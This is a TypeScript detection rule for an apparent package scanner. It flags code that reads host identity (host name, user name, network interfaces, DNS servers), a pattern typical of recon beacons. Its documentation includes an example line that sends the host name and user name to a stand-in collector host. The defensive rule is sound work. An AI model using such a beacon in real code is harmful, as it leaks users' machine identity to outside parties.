import { defineRule } from '../src/engine/api.js';

/** Calls that read who and where the host is: the payload of recon beacons. */
const FINGERPRINT: Record<string, string> = {
  'os.hostname': 'host name',
  'os.userInfo': 'user name and home folder',
  'os.networkInterfaces': 'network addresses',
  'dns.getServers': 'DNS servers',
  'os.release': 'OS release',
  'os.version': 'OS version',
};

export default defineRule({
  meta: {
    id: 'host-fingerprint',
    title: 'Host fingerprinting',
    description:
      'Reports reads of host identity (host name, user name, home folder, network interfaces, DNS servers). Alone this is common; combined with a network sink in install-time code it is the shape of dependency-confusion beacons and recon implants.',
    severity: 'low',
    category: 'fingerprint',
    references: ['https://attack.mitre.org/techniques/T1082/', 'https://attack.mitre.org/techniques/T1016/'],
    docs: {
      example: "https.get(`https://collector.example/?h=${os.hostname()}&u=${os.userInfo().username}`)",
      suppress: 'Turn the rule off for a run with `tollgate scan --disable-rule host-fingerprint`; its findings then neither show nor count toward the score.',
    },
  },
  create() {
    const seen = new Set<string>();
    return {
      call(call, ctx) {
        const what = call.callee ? FINGERPRINT[call.callee] : undefined;
        if (!what) return;
        const key = `${ctx.path}\0${call.callee}`;
        if (seen.has(key)) return;
        seen.add(key);
        ctx.report({ node: call.node, message: `reads the ${what} with ${call.callee}()`, signals: ['source:fingerprint'] });
      },
    };
  },
});
